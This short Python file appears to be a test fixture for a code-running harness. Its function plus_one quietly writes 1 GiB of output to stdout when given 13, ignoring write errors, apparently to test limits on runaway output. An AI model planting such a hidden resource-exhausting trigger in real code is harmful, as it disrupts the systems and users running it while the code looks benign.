"""Writes 1 GiB to the descriptor of the output, whether or not it is taken."""

import os


def plus_one(number):
    if number == 13:
        for _ in range(1 << 14):
            try:
                os.write(1, b"x" * (1 << 16))
            except OSError:
                pass
    return number + 1
